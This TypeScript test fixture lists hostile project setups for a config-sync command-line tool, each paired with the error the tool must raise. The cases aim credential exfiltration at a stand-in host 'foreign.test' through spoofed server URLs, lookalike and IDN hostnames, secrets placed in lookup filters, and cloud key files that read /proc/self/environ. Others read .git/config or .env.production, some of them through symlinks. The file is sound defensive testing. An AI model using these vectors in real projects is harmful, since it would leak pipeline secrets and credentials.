import { canary, type ForeignHost } from './foreign.js';

/** A proposal that tries to take something, as files of the project, and what must come of it. */
export interface Way {
  readonly name: string;
  /** `sync.yaml` is given its project name. Links are `-> target`. */
  readonly files: (host: ForeignHost) => Readonly<Record<string, string>>;
  /** Beside the canaries; what a pipeline sets from what an author wrote, too. */
  readonly env?: (host: ForeignHost) => Readonly<Record<string, string>>;
  /** Default: plan. */
  readonly args?: readonly string[];
  /** Exit code; default 1. */
  readonly code?: number;
  /** Diagnostic. */
  readonly told: string;
}

const pets = 'resources:\n  pets: {type: platform:Api}\n';
const platform = (address: string): string => `providers: {platform: {serverUrl: ${JSON.stringify(address)}}}\n`;
const lookup = (args: string): string =>
  `resources:\n  pets:\n    type: platform:Api\n    properties:\n      description: !lookup {function: platform:getTeamList, arguments: ${args}, return: id}\n`;
// An output asks for nothing but the lookup.
const policyOf =
  'outputs:\n  policy: !lookup {function: cloud:endpoints:getServiceIamPolicy, arguments: {serviceName: a.example.com}, return: etag}\n';
const onServer =
  (address: (host: ForeignHost) => string): Way['files'] =>
  (host) => ({
    'sync.yaml': platform(address(host)),
    'catalogue/pets.yaml': pets,
  });
const keyFile = (host: ForeignHost): string =>
  JSON.stringify({
    type: 'external_account',
    audience: '//iam.googleapis.com/x',
    subject_token_type: 'urn:ietf:params:oauth:token-type:jwt',
    token_url: `https://sts.foreign.test:${host.port}/token`,
    credential_source: { file: '/proc/self/environ' },
  });
const userKey = (tokenUri: string): string =>
  JSON.stringify({
    type: 'authorized_user',
    client_id: 'x',
    client_secret: canary,
    refresh_token: canary,
    token_uri: tokenUri,
  });

/** The eight ways, and their variants. */
export const ways: readonly Way[] = [
  {
    name: '1: serverUrl of the file beats the environment',
    files: onServer(({ port }) => `https://foreign.test:${port}`),
    env: () => ({ PLATFORM_SERVER_URL: 'https://gateway.example.com' }),
    told: 'address-not-trusted',
  },
  {
    name: '1: serverUrl without one in the environment',
    files: onServer(({ port }) => `https://foreign.test:${port}`),
    told: 'address-not-trusted',
  },
  {
    name: '1: serverUrl of a stack',
    files: ({ port }) => ({
      'sync.yaml': `stacks: {prod: {${platform(`https://foreign.test:${port}`).trim()}}}\n`,
      'catalogue/pets.yaml': pets,
    }),
    args: ['plan', '--stack', 'prod'],
    told: 'address-not-trusted',
  },
  {
    name: '1: a stack lays it over a good one',
    files: ({ port }) => ({
      'sync.yaml': `${platform('https://eu.api.konghq.com')}stacks: {prod: {${platform(`https://foreign.test:${port}`).trim()}}}\n`,
      'catalogue/pets.yaml': pets,
    }),
    env: () => ({ SYNC_STACK: 'prod' }),
    told: 'address-not-trusted',
  },
  {
    name: '1: through a variable that an author fills',
    files: () => ({
      'sync.yaml': 'providers: {platform: {serverUrl: !env CI_MERGE_REQUEST_TITLE}}\n',
      'catalogue/pets.yaml': pets,
    }),
    env: ({ port }) => ({ CI_MERGE_REQUEST_TITLE: `https://foreign.test:${port}` }),
    told: 'address-not-trusted',
  },
  ...['SYNC_VAR_TITLE', 'SYNC_REASON', 'PLATFORM_TITLE', 'SYNC_STATE_URL', 'SYNC_SERVER_URL_PLATFORM'].map(
    (variable): Way => ({
      name: `1: through ${variable}, which is not the variable of this setting`,
      files: () => ({
        'sync.yaml': `providers: {platform: {serverUrl: !env ${variable}}}\n`,
        'catalogue/pets.yaml': pets,
      }),
      env: ({ port }) => ({ [variable]: `https://foreign.test:${port}` }),
      told: 'address-not-trusted',
    }),
  ),
  {
    name: '1: a name that ends like the own hosts',
    files: onServer(({ port }) => `https://evilapi.konghq.com.foreign.test:${port}`),
    told: 'address-not-trusted',
  },
  {
    name: '1: the own suffix without its dot',
    files: onServer(({ port }) => `https://foreign-api.konghq.com:${port}`),
    told: 'address-not-trusted',
  },
  {
    name: '1: the own host with a dot at its end',
    files: onServer(({ port }) => `https://eu.api.konghq.com.:${port}`),
    told: 'address-not-trusted',
  },
  {
    name: '1: capital letters',
    files: onServer(({ port }) => `HTTPS://FOREIGN.TEST:${port}`),
    told: 'address-not-trusted',
  },
  {
    name: '1: an IDN that looks like the own host',
    files: onServer(({ port }) => `https://eu.api.kоnghq.com:${port}`),
    told: 'address-not-trusted',
  },
  {
    name: '1: a full stop of another script',
    files: onServer(({ port }) => `https://foreign。test:${port}`),
    told: 'address-not-trusted',
  },
  {
    name: '1: a good host as user info',
    files: onServer(({ port }) => `https://eu.api.konghq.com@foreign.test:${port}`),
    told: 'invalid-server-url',
  },
  {
    name: '1: backslashes',
    files: onServer(({ port }) => `https://foreign.test:${port}\\.api.konghq.com`),
    told: 'address-not-trusted',
  },
  {
    name: '1: a public name of loopback',
    files: onServer(({ plainPort }) => `http://localhost.foreign.test:${plainPort}`),
    told: 'invalid-server-url',
  },
  {
    name: '1: a public name of loopback, encrypted',
    files: onServer(({ port }) => `https://127.0.0.1.foreign.test:${port}`),
    told: 'address-not-trusted',
  },
  {
    name: '1: localhost with a dot',
    files: onServer(({ port }) => `https://localhost.:${port}`),
    told: 'address-not-trusted',
  },
  { name: '1: all addresses', files: onServer(({ port }) => `https://0.0.0.0:${port}`), told: 'address-not-trusted' },
  {
    name: '1: another path of the host that the environment names',
    files: onServer(({ port }) => `https://foreign.test:${port}/mine`),
    env: ({ port }) => ({ PLATFORM_SERVER_URL: `https://foreign.test:${port}/yours` }),
    told: 'address-not-trusted',
  },
  {
    name: '1: in a lookup command',
    files: onServer(({ port }) => `https://foreign.test:${port}`),
    args: ['lookup', 'getPlatformIpAddresses'],
    told: 'address-not-trusted',
  },
  {
    name: '1: in an export',
    files: onServer(({ port }) => `https://foreign.test:${port}`),
    args: ['export', '--out', 'out'],
    told: 'address-not-trusted',
  },
  {
    name: '1: in a drift check',
    files: onServer(({ port }) => `https://foreign.test:${port}`),
    args: ['drift'],
    told: 'address-not-trusted',
  },
  {
    name: '1: in an apply',
    files: onServer(({ port }) => `https://foreign.test:${port}`),
    args: ['apply', '--yes'],
    told: 'address-not-trusted',
  },
  {
    name: '2: a secret in the filter of a lookup',
    files: () => ({ 'catalogue/pets.yaml': lookup('{filter: {name: {eq: !env CANARY}}}') }),
    env: ({ port }) => ({
      PLATFORM_TOKEN: 'plain-token',
      PLATFORM_SPAT: '',
      PLATFORM_SERVER_URL: `https://foreign.test:${port}`,
    }),
    told: 'lookup-with-secret',
  },
  {
    name: '2: in a text, through a variable',
    files: () => ({
      'catalogue/pets.yaml': `variables:\n  a: !env CANARY\n  b: "x-\${a}"\n${lookup('{filter: {name: {contains: "${b}"}}}')}`,
    }),
    env: ({ port }) => ({
      PLATFORM_TOKEN: 'plain-token',
      PLATFORM_SPAT: '',
      PLATFORM_SERVER_URL: `https://foreign.test:${port}`,
    }),
    told: 'lookup-with-secret',
  },
  {
    name: '2: packed into JSON, although the policy lists another variable',
    files: () => ({ 'catalogue/pets.yaml': lookup('{filter: {name: {eq: !json [!env CANARY, !env TEAM]}}}') }),
    env: ({ port }) => ({
      ...{ PLATFORM_TOKEN: 'plain-token', PLATFORM_SPAT: '', PLATFORM_SERVER_URL: `https://foreign.test:${port}` },
      ...{ TEAM: 'x', SYNC_POLICY: '{"lookups": ["TEAM"]}' },
    }),
    told: 'lookup-with-secret',
  },
  {
    name: '3: an endpoint for the token of the cloud',
    files: ({ port }) => ({
      'sync.yaml': `providers: {cloud: {serviceManagementCustomEndpoint: "https://foreign.test:${port}/v1/"}}\n`,
      'catalogue/pets.yaml': policyOf,
    }),
    env: ({ port }) => ({
      GOOGLE_OAUTH_ACCESS_TOKEN: canary,
      PLATFORM_TOKEN: 'x',
      PLATFORM_SERVER_URL: `http://127.0.0.1:${port}`,
    }),
    told: 'address-not-trusted',
  },
  {
    name: '3: another cloud altogether',
    files: () => ({
      'sync.yaml': 'providers: {cloud: {universeDomain: foreign.test}}\n',
      'catalogue/pets.yaml': policyOf,
    }),
    env: () => ({ GOOGLE_OAUTH_ACCESS_TOKEN: canary }),
    told: 'address-not-trusted',
  },
  {
    name: '4: a branch named like a key file that reads the machine',
    files: (host) => ({
      'sync.yaml': 'providers: {cloud: {credentials: !env GITHUB_HEAD_REF}}\n',
      'catalogue/pets.yaml': policyOf,
      'keys/key.json': keyFile(host),
    }),
    env: () => ({ GITHUB_HEAD_REF: 'keys/key.json' }),
    told: 'untrusted-cloud-key',
  },
  {
    name: '4: inside a key of a harmless kind',
    files: (host) => ({
      'sync.yaml': 'providers: {cloud: {credentials: !env GITHUB_HEAD_REF}}\n',
      'catalogue/pets.yaml': policyOf,
      'key.json': `{"type": "impersonated_service_account", "service_account_impersonation_url": "https://iamcredentials.googleapis.com/v1/projects/-/serviceAccounts/a@b.c:generateAccessToken", "source_credentials": ${keyFile(host)}}`,
    }),
    env: () => ({ GITHUB_HEAD_REF: 'key.json' }),
    told: 'untrusted-cloud-key',
  },
  {
    name: '4: a key whose token address is foreign',
    files: ({ port }) => ({
      'sync.yaml': 'providers: {cloud: {credentials: !env SOME_KEY}}\n',
      'catalogue/pets.yaml': policyOf,
      'key.json': userKey(`https://foreign.test:${port}/token`),
    }),
    env: () => ({ SOME_KEY: 'key.json' }),
    told: 'address-not-trusted',
  },
  {
    name: '5: the configuration of git as data',
    files: () => ({
      'catalogue/pets.yaml':
        'resources:\n  pets: {type: platform:Api, properties: {description: !file ../.git/config}}\n',
      '.git/config': canary,
    }),
    told: 'file-no-data',
  },
  {
    name: '5: a file of variables as data',
    files: () => ({
      'catalogue/pets.yaml':
        'resources:\n  pets: {type: platform:Api, properties: {description: !file ../.env.production}}\n',
      '.env.production': canary,
    }),
    told: 'file-no-data',
  },
  {
    name: '5: by a link inside the project',
    files: () => ({
      'catalogue/pets.yaml': 'resources:\n  pets: {type: platform:Api, properties: {description: !file readme.md}}\n',
      'catalogue/readme.md': '-> ../.git/config',
      '.git/config': canary,
    }),
    told: 'file-no-data',
  },
  {
    name: '5: by a link out of the project',
    files: () => ({
      'catalogue/pets.yaml': 'resources:\n  pets: {type: platform:Api, properties: {description: !file environ}}\n',
      'catalogue/environ': '-> /proc/self/environ',
    }),
    told: 'file-outside-project',
  },
  {
    name: '5: in capitals, and through a folder',
    files: () => ({
      'catalogue/pets.yaml':
        'resources:\n  pets: {type: platform:Api, properties: {description: !file ../x/../.GIT/config}}\n',
      '.GIT/config': canary,
      'x/y': '',
    }),
    told: 'file-no-data',
  },
  {
    name: '5: git itself as a catalogue',
    files: () => ({ 'sync.yaml': 'catalogue: ".git/*"\n', '.git/config': `resources:\n  ${canary}: {}\n` }),
    args: ['validate'],
    told: 'no-catalogue-files',
  },
  {
    name: '6: a database of the file',
    files: ({ rawPort }) => ({
      'sync.yaml': `state: {backend: postgres, url: "postgres://me@foreign.test:${rawPort}/x"}\n`,
      'catalogue/pets.yaml': pets,
    }),
    told: 'address-not-trusted',
  },
  {
    name: '6: the host among the parameters of an address that looks like the right one',
    files: ({ rawPort }) => ({
      'sync.yaml': `state: {backend: postgres, url: "postgres://me@db.example.com/x?host=foreign.test&port=${rawPort}"}\n`,
      'catalogue/pets.yaml': pets,
    }),
    env: () => ({ SYNC_STATE_URL: 'postgres://db.example.com/x' }),
    told: 'address-not-trusted',
  },
  {
    name: '6: the right database without encryption',
    files: ({ rawPort }) => ({
      'sync.yaml': `state: {backend: postgres, url: "postgres://me@foreign.test:${rawPort}/x?sslmode=disable"}\n`,
      'catalogue/pets.yaml': pets,
    }),
    env: ({ rawPort }) => ({ SYNC_STATE_URL: `postgres://foreign.test:${rawPort}/x?sslmode=verify-full` }),
    told: 'address-not-trusted',
  },
  {
    name: '6: a state elsewhere on the machine',
    files: () => ({ 'sync.yaml': 'state: {path: ../outside/state.db}\n', 'catalogue/pets.yaml': pets }),
    told: 'path-leaves-project',
  },
  {
    name: '6: a folder of the state that is a link',
    files: () => ({ '.sync': '-> ../outside', 'catalogue/pets.yaml': pets }),
    told: 'path-leaves-project',
  },
  {
    name: '6: a state that is a link',
    files: () => ({ '.sync/state.db': '-> ../../outside/x', 'catalogue/pets.yaml': pets }),
    told: 'path-leaves-project',
  },
  {
    name: "6: a state's journal that is a link",
    files: () => ({ '.sync/state.db-wal': '-> ../../outside/x', 'catalogue/pets.yaml': pets }),
    told: 'path-leaves-project',
  },
  {
    name: '6: a webhook of the file',
    files: ({ port }) => ({
      'sync.yaml': `drift: {webhook: "https://foreign.test:${port}/hook"}\n`,
      'catalogue/pets.yaml': 'resources: {}\n',
    }),
    env: ({ plainPort }) => ({ PLATFORM_TOKEN: 'plain-token', PLATFORM_SERVER_URL: `http://127.0.0.1:${plainPort}` }),
    args: ['drift'],
    told: 'address-not-trusted',
  },
  {
    name: 'a policy among the files',
    files: ({ port }) => ({
      'sync.yaml': platform(`https://foreign.test:${port}`),
      'catalogue/pets.yaml': pets,
      'policy.yaml': 'hosts: {platform: ["*.test"]}\n',
    }),
    env: () => ({ SYNC_POLICY: 'policy.yaml' }),
    told: 'policy-in-tree',
  },
  {
    name: 'a policy that is a link into the files',
    files: ({ port }) => ({
      'sync.yaml': platform(`https://foreign.test:${port}`),
      'catalogue/pets.yaml': pets,
      'policy.yaml': 'hosts: {platform: ["*.test"]}\n',
      '../outside/policy.yaml': '-> ../project/policy.yaml',
    }),
    env: () => ({ SYNC_POLICY: '../outside/policy.yaml' }),
    told: 'policy-in-tree',
  },
  {
    name: 'a variable that the policy keeps back',
    files: () => ({
      'catalogue/pets.yaml': 'resources:\n  pets: {type: platform:Api, properties: {description: !env CANARY}}\n',
    }),
    env: () => ({ SYNC_POLICY: '{"env": ["TEAM_*"]}' }),
    args: ['validate'],
    told: 'variable-not-allowed',
  },
  {
    name: 'a host that only begins like one of the policy',
    files: onServer(({ port }) => `https://gateway.example.com.foreign.test:${port}`),
    env: () => ({ SYNC_POLICY: '{"hosts": {"platform": ["gateway.example.com", "*.example.com"]}}' }),
    told: 'address-not-trusted',
  },
  {
    name: "another provider's host of the policy",
    files: onServer(({ port }) => `https://foreign.test:${port}`),
    env: ({ port }) => ({ SYNC_POLICY: `{"hosts": {"cloud": ["foreign.test:${port}"]}}` }),
    told: 'address-not-trusted',
  },
  {
    name: 'another port of a host of the policy',
    files: onServer(({ port }) => `https://foreign.test:${port}`),
    env: () => ({ SYNC_POLICY: '{"hosts": {"platform": ["foreign.test"]}}' }),
    told: 'address-not-trusted',
  },
  {
    name: 'this machine, where the policy says no to that',
    files: onServer(({ port }) => `https://localhost:${port}`),
    env: () => ({ SYNC_POLICY: '{"loopback": false}' }),
    told: 'address-not-trusted',
  },
  {
    name: 'a policy that cannot be read',
    files: onServer(({ port }) => `https://foreign.test:${port}`),
    env: () => ({ SYNC_POLICY: '{"hosts": {"platform": "foreign.test"}}' }),
    told: 'policy-unreadable',
  },
  {
    name: 'a plan file in a folder that is a link',
    files: () => ({ 'catalogue/pets.yaml': 'resources: {}\n', reports: '-> ../outside' }),
    env: ({ plainPort }) => ({ PLATFORM_TOKEN: 'plain-token', PLATFORM_SERVER_URL: `http://127.0.0.1:${plainPort}` }),
    args: ['plan', '--out', 'reports/plan.json'],
    told: 'path-leaves-project',
  },
  {
    name: 'reports in a folder that is a link',
    files: () => ({ 'catalogue/pets.yaml': 'resources: {}\n', reports: '-> ../outside' }),
    env: ({ plainPort }) => ({ PLATFORM_TOKEN: 'plain-token', PLATFORM_SERVER_URL: `http://127.0.0.1:${plainPort}` }),
    args: ['plan', '--report-dir', 'reports/new'],
    told: 'path-leaves-project',
  },
  {
    name: 'a result that is a link',
    files: () => ({ 'catalogue/pets.yaml': 'resources: {}\n', 'result.json': '-> ../outside/result.json' }),
    env: ({ plainPort }) => ({ PLATFORM_TOKEN: 'plain-token', PLATFORM_SERVER_URL: `http://127.0.0.1:${plainPort}` }),
    args: ['apply', '--yes', '--report', 'result.json'],
    told: 'path-leaves-project',
  },
];
